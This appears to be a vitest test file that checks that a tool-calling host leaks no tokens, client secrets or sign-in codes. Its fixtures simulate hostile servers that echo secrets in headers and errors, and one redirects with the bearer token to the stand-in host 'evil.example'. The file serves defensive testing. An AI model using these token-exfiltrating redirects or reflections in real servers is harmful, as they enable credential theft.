import { Secret } from "@countersign/protocol/secret";
import { afterEach, describe, expect, it } from "vitest";
import { calls, ModelServer, words } from "./stand-in/model-server.ts";
import { type Browser, World } from "./stand-in/world.ts";

let world: World;
let model: ModelServer;
afterEach(async () => {
  await world.close();
  await model.close();
});

const key = "key-canary-of-the-query";
const token = "Token-Canary-ABCdef";
const secret = "secret-of-the-client";

/** A host whose one server has a key in its address, and whose sign-in service knows the host by a secret. */
async function begin(): Promise<Browser> {
  model = await ModelServer.start(calls(["store__list_orders", '{"card":"argument-canary-4"}']), words("Done."));
  world = await World.start({
    // It says only when it is called that it needs a token, and where to get one.
    tools: { list_orders: { schemes: null, demands: ["orders:read"] } },
    host: { connectors: [], model: { baseUrl: model.baseUrl, model: "small", apiKey: new Secret("model-key-canary-5") } },
  });
  const { authorizationServer, server } = world;
  authorizationServer.behaviour.tokens.push(token);
  authorizationServer.clients.set("countersign-host", { method: "client_secret_basic", secret });
  const address = `${server.url}?key=${key}`;
  authorizationServer.behaviour.metadata = { token_endpoint_auth_methods_supported: ["client_secret_basic"] };
  server.prm = { resource: address };
  await world.restart({
    connectors: [{ id: "store", name: "Store", url: address }],
    clients: { [authorizationServer.origin]: { clientId: "countersign-host", clientSecret: new Secret(secret) } },
  });
  const browser = world.browser();
  await browser.open();
  return browser;
}

interface Hostile {
  /** What the server answers to a call with this token. */
  readonly tool?: (bearer: string) => Response;
  /** What the token endpoint answers. */
  readonly grant?: (code: string, verifier: string) => Response;
  /** What lies where the server's metadata is. */
  readonly metadata?: () => Response;
}

/** A call of the model from its beginning to its end, with the sign-in that it needs; gives everything that was told of it to anybody. */
async function tellAll(browser: Browser, { tool, grant, metadata }: Hostile): Promise<Readonly<Record<string, string>>> {
  const page = await browser.listen();
  const { server, authorizationServer } = world;
  server.intercept = (request, method) => {
    const bearer = request.headers.get("authorization")?.replace("Bearer ", "");
    if (method === "prm") return metadata?.();
    return bearer !== undefined && method === "tools/call" ? tool?.(bearer) : undefined;
  };
  if (grant !== undefined) authorizationServer.behaviour.tokenResponse = (form) => grant(form.get("code") ?? "", form.get("code_verifier") ?? "");
  await browser.post("/api/chat", { message: "Orders?" });
  await expect.poll(() => page.heard()).toMatch(/"startUrl"|"error"/);
  const id = /"callId":"(call_[^"]+)"/.exec(page.heard())?.[1] ?? "";
  if (page.heard().includes('"startUrl"')) await browser.signIn((await browser.parked(id)).flow?.startUrl ?? "");
  await browser.settled(id);
  await expect.poll(() => model.asked.length).toBe(2);
  const trace = await (await browser.fetch(`/api/calls/${id}/trace`)).text();
  return { trace, pages: await page.stop(), model: JSON.stringify(model.asked), audit: JSON.stringify(world.audit) };
}

/** Where one of these is told, also in part or in another case. */
function leaksOf(told: Readonly<Record<string, string>>, secrets: readonly string[]): readonly string[] {
  return Object.entries(told).flatMap(([where, text]) =>
    secrets.flatMap((each) => {
      const at = text.toLowerCase().indexOf(each.slice(0, 8).toLowerCase());
      return at === -1 ? [] : [`${where}: ${text.slice(Math.max(0, at - 100), at + 40)}`];
    }),
  );
}

function secretsOfSignIn(): readonly string[] {
  const { tokenRequests, authorizeRequests } = world.authorizationServer;
  const redeemed = tokenRequests.flatMap((form) => ["code", "code_verifier"].flatMap((name) => form.get(name) ?? []));
  return [...redeemed, ...authorizeRequests.flatMap((form) => form.get("state") ?? [])];
}

const rpcError = (message: string): Response => Response.json({ jsonrpc: "2.0", id: 1, error: { code: -32000, message } });
const refused = (headers: Record<string, string>, body = ""): Response => new Response(body, { status: 400, headers });

const cases: readonly (readonly [string, Hostile])[] = [
  ["answers as it should", {}],
  ["repeats the token in the name of a header", { tool: (bearer) => refused({ [`x-${bearer}`]: "1" }) }],
  ["repeats the token in headers that are shown", { tool: (bearer) => refused({ "cache-control": bearer, "retry-after": bearer.toLowerCase() }) }],
  ["repeats the token where a header is cut", { tool: (bearer) => refused({ "cache-control": `${"x".repeat(485)}${bearer}` }) }],
  ["answers with the token", { tool: (bearer) => refused({}, bearer) }],
  ["answers with the token where JSON is expected", { tool: (bearer) => new Response(bearer, { headers: { "content-type": "application/json" } }) }],
  ["gives its answer the token as a type", { tool: (bearer) => new Response("x", { headers: { "content-type": bearer } }) }],
  ["redirects with the token", { tool: (bearer) => new Response(null, { status: 307, headers: { location: `https://evil.example/?t=${bearer}` } }) }],
  ["repeats the token in an error's words", { tool: (bearer) => rpcError(`bad ${bearer} ${bearer.toLowerCase()}`) }],
  ["repeats the token where words are cut", { tool: (bearer) => rpcError(`${"x".repeat(1990)}${bearer}`) }],
  [
    "repeats the code and the verifier in a token error",
    {
      grant: (code, verifier) =>
        Response.json({ error: `bad ${code}`, interval: verifier }, { status: 400, headers: { "cache-control": verifier, [`x-${code}`]: "1" } }),
    },
  ],
  ["repeats the code as the token's type", { grant: (code) => Response.json({ access_token: token, token_type: code, refresh_token: token }) }],
  ["has metadata that fails", { metadata: () => new Response("x", { status: 500 }) }],
  ["has metadata that is no JSON", { metadata: () => new Response("x") }],
  ["has metadata that leads elsewhere", { metadata: () => new Response(null, { status: 302, headers: { location: "https://evil.example/" } }) }],
  ["has no metadata", { metadata: () => new Response(null, { status: 404 }) }],
];

describe("a call of the model to a server that", () => {
  it.each(cases)("%s: no secret reaches the trace, a page, the model or the operator", async (_, hostile) => {
    const browser = await begin();
    const told = await tellAll(browser, hostile);
    expect(told["trace"]).toContain("list_orders");
    expect(leaksOf(told, [token, secret, "model-key-canary-5", ...secretsOfSignIn()])).toEqual([]);
    // The user's own list of connectors names their address whole: they edit it there.
    const withoutConnectors = { ...told, pages: (told["pages"] ?? "").replaceAll(/event: connector\ndata: .*/g, "") };
    expect(leaksOf(withoutConnectors, [key])).toEqual([]);
  });
});
